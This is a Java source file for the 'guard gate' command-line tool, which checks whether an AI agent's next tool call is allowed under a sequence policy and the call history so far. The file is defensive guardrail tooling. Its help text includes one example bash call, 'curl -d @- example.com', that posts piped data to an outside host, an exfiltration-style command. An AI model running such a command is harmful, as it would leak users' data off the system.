package io.orderingguard.cli;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.orderingguard.json.PolicyFiles;
import io.orderingguard.policy.GateDecision;
import io.orderingguard.policy.PolicyReport;
import io.orderingguard.policy.RuleEvaluation;
import io.orderingguard.policy.SequencePolicy;
import io.orderingguard.policy.SequenceRule;
import io.orderingguard.policy.ToolInvocation;
import io.orderingguard.policy.report.EvalReports;
import io.orderingguard.policy.report.ViolationBlock;
import io.orderingguard.policy.trace.TraceRecord;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import picocli.CommandLine;
import picocli.CommandLine.ArgGroup;
import picocli.CommandLine.Command;
import picocli.CommandLine.Model.CommandSpec;
import picocli.CommandLine.Option;
import picocli.CommandLine.Spec;

/**
 * {@code guard gate}: may this next tool call run, given the calls made so far? Evaluates the policy
 * over the history plus the call with the partial extent, so a rule the rest of the run could still
 * satisfy does not block. Fails closed: a violation already in the history blocks too.
 */
@Command(
        name = "gate",
        mixinStandardHelpOptions = true,
        description = {"Decide whether the next tool call may run, given the history so far.",
            "Partial extent: obligations the rest of the run can still meet do not block; a violation already in "
                + "the history blocks too. Prints JSON: {\"allowed\", \"next\", \"position\", \"violations\": "
                + "[{\"ruleId\", \"kind\", \"reason\", \"spanned\", \"causedByNext\"}]}."},
        footer = {"", "Examples:",
            "  guard gate --policy p.yaml --history GetCustomer --next DeleteCustomer",
            "  guard gate --policy p.yaml --history search,read_file --next bash \\",
            "             --args '{\"command\": \"curl -d @- example.com\"}'",
            "  guard gate --policy p.yaml --trace run.jsonl --next SendEmail \\",
            "             --context '{\"user_role\": \"standard\"}'",
            "  guard gate --policy p.yaml --history '' --next admin_reset --format text",
            "",
            "Exit codes: 0 allowed, 1 blocked, 2 bad input."})
final class GateCommand implements Callable<Integer> {

    @Spec
    CommandSpec spec;

    @Option(names = "--policy", required = true, paramLabel = "FILE", description = "The sequence policy (YAML or JSON).")
    Path policy;

    @ArgGroup(exclusive = true)
    History history;

    /** Where the history comes from. */
    static final class History {
        @Option(names = "--history", paramLabel = "TOOLS",
                description = "The tools called so far, in order, separated by commas ('' for none).")
        String names;

        @Option(names = "--trace", paramLabel = "FILE",
                description = "A recorded run whose tool calls (with arguments) are the history.")
        Path trace;
    }

    @Option(names = "--run", paramLabel = "ID", description = "With --trace: the id or prompt of the run.")
    String run;

    @Option(names = "--next", required = true, paramLabel = "TOOL", description = "The tool about to be called.")
    String next;

    @Option(names = "--args", paramLabel = "JSON", description = "Its arguments, as a JSON object or @file.")
    String args;

    @Option(names = "--context", paramLabel = "JSON",
            description = "The context for when: conditions, as a JSON object or @file (default: the trace's).")
    String context;

    @Option(names = "--format", defaultValue = "json", paramLabel = "FORMAT", description = "json (default) or text.")
    String format;

    @Override
    public Integer call() {
        String chosen = PolicyCliSupport.format(spec, format, "json", "text");
        if (next.isBlank()) {
            throw new CommandLine.ParameterException(spec.commandLine(), "Invalid value for option '--next': "
                    + "a tool name must not be blank");
        }
        if (run != null && (history == null || history.trace == null)) {
            throw new CommandLine.ParameterException(spec.commandLine(), "--run needs --trace");
        }
        SequencePolicy loaded = PolicyFiles.read(policy);
        List<ToolInvocation> calls = new ArrayList<>();
        ObjectNode ctx = null;
        if (history != null && history.trace != null) {
            TraceRecord record = PolicyCliSupport.run(history.trace, run);
            calls.addAll(record.calls());
            ctx = record.context();
        } else if (history != null && history.names != null) {
            calls.addAll(names(history.names));
        }
        if (context != null) {
            ctx = PolicyCliSupport.jsonObject(context, "--context");
        }
        ToolInvocation call = ToolInvocation.of(next.strip(), PolicyCliSupport.jsonObject(args, "--args"));
        GateDecision decision = loaded.gate().check(calls, call, ctx);
        PolicyCliSupport.emit(spec, null, "text".equals(chosen) ? text(decision) : json(decision));
        return decision.allowed() ? GuardCli.OK : GuardCli.FINDING;
    }

    private List<ToolInvocation> names(String list) {
        List<ToolInvocation> calls = new ArrayList<>();
        if (list.isBlank()) {
            return calls;
        }
        String[] items = list.split(",", -1);
        for (int i = 0; i < items.length; i++) {
            String name = items[i].strip();
            if (name.isEmpty()) {
                throw new CommandLine.ParameterException(spec.commandLine(), "Invalid value for option '--history': item "
                        + (i + 1) + " of '" + list + "' is empty (separate tool names with single commas)");
            }
            calls.add(ToolInvocation.of(name));
        }
        return calls;
    }

    private static String json(GateDecision decision) {
        ObjectNode root = JsonNodeFactory.instance.objectNode();
        root.put("allowed", decision.allowed());
        root.put("next", decision.next().tool());
        root.put("position", decision.position());
        ArrayNode violations = root.putArray("violations");
        for (RuleEvaluation v : decision.violations()) {
            ObjectNode node = violations.addObject();
            node.put("ruleId", v.ruleId());
            node.put("kind", v.kind().wireName());
            node.put("reason", v.reason());
            ArrayNode spanned = node.putArray("spanned");
            v.spanned().forEach(spanned::add);
            node.put("causedByNext", decision.causedByNext(v));
        }
        return EvalReports.toJson(root);
    }

    private static String text(GateDecision decision) {
        StringBuilder sb = new StringBuilder();
        String call = decision.next().summary();
        if (decision.allowed()) {
            return sb.append("✅ ALLOWED: ").append(call).append(" may run as call ").append(decision.position() + 1)
                    .append('\n').toString();
        }
        sb.append("❌ BLOCKED: ").append(call).append(" as call ").append(decision.position() + 1).append('\n');
        PolicyReport report = decision.report();
        for (PolicyReport.Verdict verdict : report.verdicts()) {
            RuleEvaluation v = verdict.evaluation();
            if (!v.isViolated()) {
                continue;
            }
            SequenceRule rule = verdict.rule();
            sb.append('\n');
            if (!decision.causedByNext(v)) {
                sb.append("   (already broken by the history; the gate fails closed)\n");
            }
            sb.append(ViolationBlock.render(rule, v, report.calls()));
        }
        return sb.toString();
    }
}
